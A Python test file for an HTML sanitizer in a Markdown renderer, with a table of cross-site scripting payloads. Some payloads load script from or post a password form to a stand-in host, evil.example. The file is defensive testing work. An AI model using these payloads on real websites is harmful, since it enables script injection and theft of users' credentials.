"""Markdown to HTML that is safe to show: a table of evil inputs."""

import html
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from explainer.rendering import ATTRIBUTES, CLASSES, TAGS, foreign_pictures, render, render_article, render_blocks
from tests.markup import read

OURS = {"h1": set(), "img": {"loading"}}
EVIL = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script\n>alert(1)</script\n> b",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<img src=x onerror=alert(1)>",
    "<img src='/x.png' onerror=alert(1) style='position:fixed'>",
    "<p onclick=alert(1) style='background:url(//evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](/a \"title' onmouseover='alert(1)\")",
    '![x](/a.png "\\" onerror=alert(1)")',
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<div class='card' id='card-1'><p id='source-1' class='marker'>x</p></div>",
    "<li id='main'>x</li><sup id='heard'>1</sup>",
    "<a class='marker' href='#card-1' data-annotation='1' hx-get='/x' id='card-1'>x</a>",
    "<a name='card-1'>x</a><details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <b>secret</b> -->x<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
    "<b><i>unclosed",
    "</p></div></article></main></body>",
    "<table><tr><td><script>alert(1)</script>",
    "<plaintext>x",
    "a\x00b <scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '*[x]: " onmouseover=alert(1)\n\nx',
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<div>" * 2000 + "x",
    ">" * 2000 + "x",
    "- " * 600 + "x",
    "[" * 500,
    "half a pair \ud800",
]


def assert_harmless(clean):
    """Allowed tags and attributes only, tags that balance, addresses that can't run or fetch pictures elsewhere."""
    for element in read(clean).elements:
        assert element.tag in TAGS - {"h1"}
        allowed = ATTRIBUTES.get(element.tag, set()) | OURS.get(element.tag, set())
        assert element.attrs.keys() <= allowed | ({"class"} if element.tag in CLASSES else set())
        assert set((element.attrs.get("class") or "").split()) <= CLASSES.get(element.tag, set())
        assert scheme_of(element.attrs.get("href") or "") in {"", "http", "https", "mailto"}, element
        assert re.match(r"/([^/\\]|$)", element.attrs.get("src", "/x")), element
        assert element.attrs.get("id", "fn").startswith("fn")


def scheme_of(address):
    """As a browser reads it: blanks around it and broken lines in it don't count (WHATWG URL, section 4.4)."""
    found = re.match(
        r"([a-z][a-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33)))), re.I
    )
    return found[1].lower() if found else ""


@pytest.mark.parametrize("source", EVIL, ids=lambda source: source[:40].replace("\x00", "0"))
def test_it_lets_nothing_evil_through(source):
    assert_harmless(render(source))
    for block in render_article(source):
        assert_harmless(block.html)


@pytest.mark.thorough
@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>/=\"'& ab:()[]!*_#`-|^\n\x00\\", max_size=60) | st.text(max_size=40))
@example("<a href=//[>")
@example("![x](http://[)")
def test_it_never_raises_and_never_leaks(source):
    for block in render_article(source):
        assert_harmless(block.html)
    assert_harmless(render(source))
    foreign_pictures(source)


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("<script>alert(1)</script>x", "x"),
        ("<style>b{}</style>x", "x"),
        ("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"),
        ("`<b>`", "<code>&lt;b&gt;</code>"),
        ("<u>x</u>", "x"),
        ("[x](javascript:alert(1))", "<a>x</a>"),
        ("[x](mailto:a@example.org)", '<a href="mailto:a@example.org">x</a>'),
        ("x ![alt](//evil.example/a.png)", 'x <img loading="lazy" alt="alt">'),
        (r'<img src="/\evil.example/a.png">', '<img loading="lazy">'),
        ("x ![alt](/static/a.png)", 'x <img loading="lazy" alt="alt" src="/static/a.png">'),
    ],
)
def test_it_shows(source, shown):
    assert render(source) == f"<p>{shown}</p>"


@pytest.mark.parametrize(
    ("after", "caption"),
    [
        ("", ""),
        (' "A "bridge""', "<figcaption>A “bridge”</figcaption>"),
        (' "A bridge | Photo: A. <b>"', "<figcaption>A bridge · <small>Photo: A. &lt;b&gt;</small></figcaption>"),
        (' "| Photo &amp; Co"', "<figcaption><small>Photo &amp; Co</small></figcaption>"),
    ],
)
def test_a_picture_by_itself_is_a_figure_with_caption_and_credit(after, caption):
    picture = '<img loading="lazy" alt="alt" src="/static/a.png">'
    assert render(f"![alt](/static/a.png{after})") == f"<figure>{picture}{caption}</figure>"
    assert render(f"![alt](/static/a.png#wide{after})") == f'<figure class="outset">{picture}{caption}</figure>'
    (block,) = render_article(f"![alt](/static/a.png{after})")
    assert (block.kind, block.text) == ("image", html.unescape(re.sub("<.*?>", "", caption)))


@pytest.mark.parametrize(
    ("source", "foreign"),
    [
        ("![a](/media/a.png)", []),
        ("![a](https://evil.example/a.png)", ["https://evil.example/a.png"]),
        ("<img src='//evil.example/a.png'>", ["//evil.example/a.png"]),
        ("![a](a.png)", ["a.png"]),
        ("`![a](https://evil.example/a.png)`", []),
        ("[a](https://example.org)", []),
    ],
)
def test_it_names_pictures_of_other_sites(source, foreign):
    assert foreign_pictures(source) == foreign


def test_it_renders_deep_nesting_quickly_and_as_text():
    [block] = render_blocks("- " * 600 + "x")
    assert block.text == "- " * 600 + "x"
    assert html.unescape(read(block.html).text) == block.text
